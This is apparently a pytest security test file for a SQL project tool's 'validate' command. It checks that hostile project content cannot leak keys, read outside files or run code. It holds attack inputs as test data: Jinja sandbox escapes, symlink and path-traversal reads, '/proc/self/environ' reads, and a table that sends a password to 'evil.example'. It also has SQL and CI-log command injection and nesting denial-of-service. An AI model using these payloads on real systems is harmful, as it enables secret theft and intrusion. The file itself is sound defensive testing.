"""An attacker's day, as the author of SQL in a pull request: what `validate` reads is theirs, the machine is not.

They write the SQL, the templates, the project file and modules beside it. They want the key and the passwords of whoever
validates, a file of that machine, code that runs there, or a check that never ends.
"""

from __future__ import annotations

import json
import os
import socket
import time
from pathlib import Path
from typing import TYPE_CHECKING, cast

import pytest

from penstock.catalog import masking
from penstock.catalog.errors import PenstockError, TemplateError
from penstock.catalog.model.namespaces import CatalogDescriptor
from penstock.catalog.options import reference_rules
from penstock.catalog.options.references import reveal
from penstock.catalog.secrets import crypto
from penstock.catalog.secrets.crypto import KEY_VARIABLE, new_key
from penstock.catalog.store.sql_catalog import SqlCatalog
from penstock.connector.delta.catalog import DeltaCatalog
from penstock.sql.cli.commands.app import app
from penstock.sql.execution.functions import add_jar
from penstock.sql.script import project as config
from penstock.sql.script.project import Project, find_project
from penstock.sql.script.templates import render_template
from tests.sql.cli.command_runner import CommandRunner

if TYPE_CHECKING:
    from pyspark.sql import SparkSession

KEY = new_key()
PASSWORD = "hunter2-of-the-machine"
RUNNER = CommandRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})


@pytest.fixture(autouse=True)
def private(
    project: Path, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> Path:
    """A machine that has a key in its environment, and a folder beside the project that is nobody's business."""
    monkeypatch.setattr(masking, "_values", set())
    monkeypatch.setattr(crypto, "_key_files", set())
    monkeypatch.setattr(reference_rules, "_of_projects", {})
    monkeypatch.setenv(KEY_VARIABLE, KEY)
    private = tmp_path_factory.mktemp("private")
    (private / "password").write_text(PASSWORD)
    (project / ".penstock").mkdir(exist_ok=True)
    (project / ".penstock" / "secret.key").write_text(KEY)
    (project / ".penstock" / "secret.key").chmod(0o600)
    return private


def validated(project: Path, text: str, *options: str) -> str:
    """All that `validate` says of a file."""
    (project / "job.sql").write_text(text)
    result = RUNNER.invoke(app, ["validate", "job.sql", *options])
    assert "a fault in penstock" not in result.output.lower()
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result.output


def table(option: str) -> str:
    """A table that sends an option's value to a broker."""
    return (
        "CREATE TABLE t (id BIGINT) WITH ('connector' = 'kafka', 'topic' = 'a', 'format' = 'json',"
        "'properties.bootstrap.servers' = 'evil.example:9092', 'properties.security.protocol' = 'SASL_SSL',"
        "'properties.sasl.mechanism' = 'PLAIN', 'properties.sasl.username' = 'u',"
        f"'properties.sasl.password' = '{option}');"
    )


@pytest.mark.parametrize(
    "template",
    [
        "{{ env_var('PENSTOCK_SECRET_KEY') }}",
        "{{ env_var('PENSTOCK_SECRET_' ~ 'KEY', '') }}",
        "{{ secret('PENSTOCK_SECRET_KEY') }}",
        "{% include '.penstock/secret.key' %}",
        "{% include './.penstock/secret.key' %}",
        "{% import '.penstock/secret.key' as k %}{{ k }}",
        "{% extends '.penstock/secret.key' %}",
        "{% include '../private/password' %}",
        "{% include 'link.sql' %}",
        "{% include 'folder/password' %}",
        "{{ key_of_macro() }}",
    ],
)
def test_a_template_shows_neither_the_key_nor_a_file_outside(
    project: Path, private: Path, template: str
) -> None:
    """By variables, includes, links to files and folders, macros that are links."""
    (project / "link.sql").symlink_to(private / "password")
    (project / "folder").symlink_to(private)
    (project / "macros").mkdir()
    (project / "macros" / "m.sql").symlink_to(private / "password")

    shown = validated(project, f"SELECT '{template}';")
    assert KEY not in shown
    assert PASSWORD not in shown
    found = find_project(project)
    with pytest.raises(PenstockError):
        render_template(template, "job.sql", {}, found.environment, found.folders)


@pytest.mark.parametrize(
    ("paths", "template"),
    [
        ('macros = "{private}"', "{% include 'password' %}"),
        ('macros = "../{private.name}"', "{% include 'password' %}"),
        ('macros = ".penstock"', "{% include 'secret.key' %}"),
        ('macros = "linked"', "{% include 'password' %}"),
        ('macros = "hidden"', "{% include 'secret.key' %}"),
        ('secrets = ".penstock"', "{{ secret('secret.key')|list|join('-') }}"),
        ('secrets = ".penstock"\ndata = "other"', "{{ secret('secret.key')|lower }}"),
        ('secrets = "copies"', "{{ secret('copy')|reverse }}"),
        ("", "{% include 'copies/copy' %}"),
    ],
)
def test_the_paths_of_a_project_file_do_not_lead_out_of_the_project(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch, paths: str, template: str
) -> None:
    """Nor to the key, which lies in its file alone, as it does by default."""
    monkeypatch.delenv(KEY_VARIABLE)
    (project / "linked").symlink_to(private)
    (project / "hidden").symlink_to(project / ".penstock")
    (project / "copies").mkdir()
    (project / "copies" / "copy").write_text(KEY)
    text = f"[paths]\n{paths.format(private=private)}\n[settings]\n"
    (project / "penstock.toml").write_text(text)

    shown = validated(project, f"SELECT x '{template}';")
    for leaked in (KEY, "-".join(KEY), KEY.lower(), KEY[::-1], PASSWORD):
        assert leaked not in shown
    assert "the key of the secrets" in shown or "must be a folder of the project" in shown


def test_a_folder_of_macros_that_is_a_link_leads_nowhere(project: Path, private: Path) -> None:
    """A link can be committed: `macros` is read where the project file says nothing."""
    (private / "m.sql").write_text(f"{{% macro m() %}}{PASSWORD}{{% endmacro %}}")
    (project / "macros").symlink_to(private)

    for template in ("{% include 'password' %}", "{{ m() }}"):
        shown = validated(project, f"SELECT x '{template}';")
        assert PASSWORD not in shown
        assert "there is no file 'password'" in shown or "'m' is undefined" in shown


def test_a_template_reads_secrets_in_the_folders_that_rules_allow(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The operator's rules and the project's, as references do."""
    toml = f'[paths]\nsecrets = "{private}"\n'
    (project / "penstock.toml").write_text(f'{toml}[secrets]\nfile-roots = ["keys"]\n')
    shown = validated(project, "SELECT x '{{ secret('password')|upper }}';")
    assert PASSWORD.upper() not in shown
    assert "in none of the folders" in shown

    (project / "penstock.toml").write_text(f'{toml}[secrets]\nfile-roots = ["/"]\n')
    monkeypatch.setenv("PENSTOCK_SECRET_FILE_ROOTS", "/run/secrets")
    shown = validated(project, "SELECT x '{{ secret('password')|upper }}';")
    assert PASSWORD.upper() not in shown
    assert "in none of the folders" in shown


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ var.__globals__ }}",
        "{{ env_var.__closure__[0].cell_contents }}",
        "{{ secret.__code__ }}",
        "{{ self.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ (''|attr('__class__'))|attr('__base__') }}",
        "{{ '{0.__class__.__base__}'.format('') }}",
        "{{ '{0.__globals__}'|format(var) }}{{ ('{x.__globals__}').format_map({'x': var}) }}",
        "{{ namespace.__init__.__globals__ }}",
        "{{ [].append(1) }}{{ dict.mro() }}",
        "{{ range.__class__.__bases__ }}",
        "{% set x = {} %}{{ x.update({'a': 1}) }}",
    ],
)
def test_a_template_does_not_leave_its_sandbox(project: Path, template: str) -> None:
    """Nothing of Python behind the values is reached."""
    with pytest.raises(TemplateError):
        render_template(template, "job.sql", {}, {}, Project(root=project).folders)


@pytest.mark.parametrize(
    "path",
    [
        "/proc/self/environ",
        "/proc/thread-self/environ",
        "/proc/self/task/../environ",
        "/proc/1/environ",
        "/proc/self/cmdline",
        "/proc/self/root/proc/self/environ",
        "/dev/stdin",
        "/dev/fd/0",
        "/dev/zero",
        "/sys/class/net",
        "//proc/self/environ",
    ],
)
def test_a_reference_reads_no_process_and_no_device(path: str) -> None:
    """It ends at once, too."""
    started = time.monotonic()
    with pytest.raises(PenstockError):
        reveal(f"${{file:{path}}}", secret=True)
    assert time.monotonic() - started < 5


def test_the_key_leaves_under_no_name(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The catalog's own file, a hard link to it, a copy among the variables."""
    SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
    os.link(project / ".penstock" / "secret.key", project / "harmless.txt")
    monkeypatch.setenv("BACKUP", f"{KEY},old")
    for reference in (
        f"${{env:{KEY_VARIABLE}}}",
        "${env:BACKUP}",
        f"${{file:{project}/.penstock/secret.key}}",
        f"${{file:{project}/harmless.txt}}",
    ):
        with pytest.raises(PenstockError) as caught:
            reveal(reference, secret=True)
        assert KEY not in str(caught.value)
        assert KEY not in validated(project, table(reference))


def test_a_project_file_does_not_widen_what_the_operator_allows(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nor does `.env`: the environment of the process is the operator's."""
    monkeypatch.setenv("PENSTOCK_SECRET_FILE_ROOTS", "/run/secrets")
    monkeypatch.setenv("PENSTOCK_SECRET_ENV_PREFIX", "JOB_")
    monkeypatch.setenv("CI_TOKEN", PASSWORD)
    (project / "penstock.toml").write_text('[secrets]\nfile-roots = ["/"]\nenv-prefix = ""\n')
    (project / ".env").write_text("PENSTOCK_SECRET_FILE_ROOTS=/\nPENSTOCK_SECRET_ENV_PREFIX=\n")

    shown = validated(project, "SELECT '{{ env_var('CI_TOKEN') }}';")
    assert PASSWORD not in shown
    assert "is not defined" in shown
    for reference in (f"${{file:{private}/password}}", "${env:CI_TOKEN}"):
        with pytest.raises(PenstockError):
            reveal(reference, secret=True)


def test_a_key_file_that_is_somebody_elses_secret_is_not_shown(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`key-file` names any file of the machine: what is wrong with it is told without what is in it."""
    monkeypatch.delenv(KEY_VARIABLE)
    (private / "password").chmod(0o600)
    (project / "penstock.toml").write_text(f'[secrets]\nkey-file = "{private}/password"\n')
    (project / "job.sql").write_text("CREATE SECRET a AS 'value';")
    result = RUNNER.invoke(app, ["secret", "set", "a"], input="value\n")

    assert result.exit_code != 0
    assert PASSWORD not in result.output


def test_validate_runs_no_code_of_the_project(project: Path) -> None:
    """Modules of functions, a `sitecustomize`, a `jinja2.py` beside the file."""
    for name in ("evil", "sitecustomize", "jinja2", "conftest"):
        (project / f"{name}.py").write_text(f"open(r'{project}/pwned', 'w').close()\n")

    validated(
        project,
        "CREATE FUNCTION f AS 'evil.f' LANGUAGE PYTHON;\n"
        "CREATE TABLE t (id BIGINT) WITH ('connector' = 'datagen');\n"
        "CREATE TABLE s (id BIGINT) WITH ('connector' = 'blackhole');\n"
        "SELECT '{{ var('a', 'b') }}';\nINSERT INTO s SELECT f(id) FROM t;",
    )
    assert not (project / "pwned").exists()


@pytest.mark.parametrize(
    "line",
    [
        "PENSTOCK_LEVEL=connect",
        "PENSTOCK_VARS_FILE={private}/password",
        "PENSTOCK_UNTESTED_VERSIONS=1",
        "PENSTOCK_FAILPOINTS=planned=kill@1",
        "penstock_level=connect",
    ],
)
def test_the_env_file_of_a_project_sets_no_option_of_a_check(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    """Neither how deeply it looks nor which file it reads; what the project's own file may say is taken."""
    monkeypatch.setattr(os, "environ", dict(os.environ))
    text = f"{line.format(private=private)}\nPENSTOCK_OUTPUT_FORMAT=json\nTOPIC=orders\n"
    (project / ".env").write_text(text)

    shown = validated(project, "SELECT '{{ env_var('TOPIC') }}';")
    name = line.partition("=")[0]
    assert f"note: {name} of .env is ignored" in shown
    assert name not in os.environ
    assert '"errors"' in shown
    assert PASSWORD not in shown


def test_a_catalog_that_the_operator_names_is_the_only_one_that_is_opened(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever server the project's file and `.env` name: it would be sent the machine's password."""
    monkeypatch.setattr(os, "environ", dict(os.environ))
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        url = f"postgresql://u@127.0.0.1:{server.getsockname()[1]}/p?connect_timeout=2"
        (project / "penstock.toml").write_text(f'[catalog]\nurl = "{url}"\n')
        (project / ".env").write_text(f"PENSTOCK_CATALOG={url}\n")

        monkeypatch.setenv("PENSTOCK_CATALOG", f"sqlite:///{project}/operator.db")
        assert "PEN-2001" in validated(project, "SELECT * FROM nowhere;")
        monkeypatch.delenv("PENSTOCK_CATALOG")
        named = f"sqlite:///{project}/operator.db"
        assert "PEN-2001" in validated(project, "SELECT * FROM nowhere;", "--catalog", named)
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.mark.parametrize("name", ["penstock.toml", ".env", "job.sql", "shared/job.sql"])
def test_a_file_of_a_project_that_is_a_link_shows_nothing_of_another(
    project: Path, private: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """A link can be committed, and a mistake is shown with its line; within the project links are taken."""
    monkeypatch.setattr(os, "environ", dict(os.environ))
    monkeypatch.delenv("PENSTOCK_SAFE_FOLDERS", raising=False)
    (project / "ok.sql").write_text("SELECT 1;")
    (project / "shared").mkdir()
    link = project / name
    link.unlink(missing_ok=True)
    link.symlink_to(private / "password")
    checked = name if name.endswith(".sql") else "ok.sql"
    shown = RUNNER.invoke(app, ["validate", checked]).output
    assert "a link that leads out of its project" in shown
    assert PASSWORD not in shown

    link.unlink()
    (project / "real.sql").write_text("SELECT 1;")
    (project / "shared" / "inside.sql").symlink_to(project / "real.sql")
    assert RUNNER.invoke(app, ["validate", "shared/inside.sql"]).exit_code == 0


@pytest.mark.parametrize("by", ["penstock.toml", ".env", "a target"])
def test_a_check_logs_in_to_no_server_that_a_project_names(
    project: Path, monkeypatch: pytest.MonkeyPatch, by: str
) -> None:
    """Unless whoever checks trusts it, by its whole URL: hosts may stand in its parameters too."""
    monkeypatch.setattr(os, "environ", dict(os.environ))
    monkeypatch.setattr(config, "_from_dotenv", {})
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        url = f"postgresql://u:p4ssword@127.0.0.1:{server.getsockname()[1]}/p?connect_timeout=1"
        section = "targets.ci.catalog" if by == "a target" else "catalog"
        if by == ".env":
            (project / ".env").write_text(f"PENSTOCK_CATALOG={url}\n")
        else:
            (project / "penstock.toml").write_text(f'[{section}]\nurl = "{url}"\n')
        options = ("--target", "ci") if by == "a target" else ()
        for trusted in ("", f"{url}&host=db.example.org", "postgresql://127.0.0.1/p"):
            monkeypatch.setenv("PENSTOCK_TRUSTED_CATALOGS", trusted)
            shown = validated(project, "SELECT 1;", *options)
            assert "logs in to no server that a project names" in shown
            assert "p4ssword" not in shown
        with pytest.raises(BlockingIOError):
            server.accept()

        monkeypatch.setenv(
            "PENSTOCK_TRUSTED_CATALOGS", f"sqlite:///a {url.replace(':p4ssword', '')}"
        )
        server.listen()
        validated(project, "SELECT * FROM nowhere;", *options)
        server.accept()[0].close()


@pytest.mark.parametrize(
    "line",
    [
        "PGHOSTADDR=203.0.113.1",
        "PGHOST=evil.example",
        "pgservicefile=/tmp/x",
        "PGSSLMODE=disable",
        "PGSSLROOTCERT=evil.pem",
        "PGOPTIONS=-c x=y",
        "PGREQUIREAUTH=none",
        "HOSTALIASES=hosts",
        "SSLKEYLOGFILE=keys",
        "KRB5_CONFIG=krb5.conf",
        "PENSTOCK_TRUSTED_CATALOGS=*",
    ],
)
def test_the_env_file_of_a_project_leads_no_connection_elsewhere(
    project: Path, monkeypatch: pytest.MonkeyPatch, line: str
) -> None:
    """The catalog that the operator names stays where it is, and its log-in as safe as it was."""
    monkeypatch.setattr(os, "environ", dict(os.environ))
    monkeypatch.setattr(config, "_from_dotenv", {})
    (project / ".env").write_text(f"{line}\nPGUSER=u\nPGPASSWORD=own-password\n")

    shown = validated(project, "SELECT 1;")
    name = line.partition("=")[0]
    assert f"note: {name} of .env is ignored" in shown
    assert name not in os.environ
    assert os.environ["PGPASSWORD"] == "own-password"


@pytest.mark.parametrize(
    "text",
    ["SELECT '\r\r\r', {{ 1 }}", "SELECT 1 -- \r{{ 1 }}", "\r\n\r{{ 1 }}\u2028\x85\x0b{{ 1 }}"],
)
def test_a_template_with_odd_ends_of_lines_is_rendered(project: Path, text: str) -> None:
    """Those of an old Mac, as a cell of a notebook may have them, count as lines to Jinja."""
    rendered = render_template(text, "job.sql", {}, {}, Project(root=project).folders)

    assert "1" in rendered.text


@pytest.mark.parametrize("shape", ["github", "concise", "full", "json"])
def test_a_name_does_not_write_lines_of_its_own_into_a_report(project: Path, shape: str) -> None:
    """GitHub takes a line that begins with :: for a command, a terminal takes escapes."""
    name = "`a\n::add-path::/tmp/evil\n::error::x\x1b]0;owned\x07`"
    shown = validated(project, f"SELECT * FROM {name};", "--output-format", shape)

    assert not any(line.startswith("::add-path") for line in shown.splitlines())
    assert "\x1b" not in shown
    assert "\x07" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "SELECT " + "(" * 5000 + "1" + ")" * 5000 + ";",
        "SELECT " + "NOT " * 5000 + "TRUE;",
        "SELECT 1" + " + 1" * 20000 + ";",
        "SELECT " + "CASE WHEN TRUE THEN " * 800 + "1" + " END" * 800 + ";",
        "CREATE TABLE t (a "
        + "ARRAY<" * 3000
        + "INT"
        + ">" * 3000
        + ") WITH ('connector' = 'datagen');",
        "/*" * 20000 + "SELECT 1;",
        "SELECT '" + "x" * 2_000_000 + "';",
    ],
    ids=range(7),
)
def test_a_statement_that_is_nested_very_deeply_is_an_answer_in_time(
    project: Path, text: str
) -> None:
    """Right or wrong, but no crash and no hour."""
    started = time.monotonic()
    validated(project, text, "--output-format", "concise")
    assert time.monotonic() - started < 60


def test_a_project_file_that_is_nested_very_deeply_is_an_error(project: Path) -> None:
    """It is told as the author's mistake."""
    (project / "penstock.toml").write_text(f"[variables]\na = {'[' * 20_000}{']' * 20_000}\n")

    assert "nested too deeply" in validated(project, "SELECT 1;")


def test_a_sealed_value_of_another_secret_is_not_taken(project: Path) -> None:
    """What Penstock writes between its processes is refused in a file."""
    catalog = SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
    catalog.secrets.create("production", PASSWORD)
    sealed = catalog.secrets.sealed("production")
    shown = validated(
        project,
        table(f"${{sealed:mine:{sealed.key_id}::{sealed.token}}}"),
        "--output-format",
        "json",
    )

    assert json.loads(shown)["errors"]
    assert PASSWORD not in shown


@pytest.mark.parametrize("name", ["../../etc/x", "a/b", ".", "", "a b", "x" * 300, "a\n"])
def test_a_secret_has_a_name_that_is_only_a_name(project: Path, name: str) -> None:
    """It is no path and no part of a reference."""
    catalog = SqlCatalog(f"sqlite:///{project}/.penstock/catalog.db")
    with pytest.raises(PenstockError):
        catalog.secrets.create(name, "value")


class _NoSpark:
    """A session that must not be asked."""

    def sql(self, text: str) -> None:
        pytest.fail(f"Spark was asked for {text}")


@pytest.mark.parametrize(
    "name", ["a'; DROP TABLE t; --.jar", "a\\'.jar", 'a".jar', "a\nb.jar", "${x}.jar"]
)
def test_the_path_of_a_jar_is_no_sql(project: Path, name: str) -> None:
    """ADD JAR is a text for Spark; the file is there."""
    (project / name).touch()
    with pytest.raises(PenstockError, match="that Spark would read as SQL"):
        add_jar(name, cast("SparkSession", _NoSpark()), project)


@pytest.mark.parametrize("database", ["..", "../..", "a/../..", "/etc", ".hidden", "_delta_log"])
def test_a_database_of_a_folder_does_not_lead_out_of_it(project: Path, database: str) -> None:
    """SHOW TABLES IN lake.`..` would list the folder above."""
    descriptor = CatalogDescriptor(
        name="lake", options=(("type", "delta-path"), ("path", str(project / "lake")))
    )
    with pytest.raises(PenstockError):
        DeltaCatalog(descriptor=descriptor, project=project).tables(database)
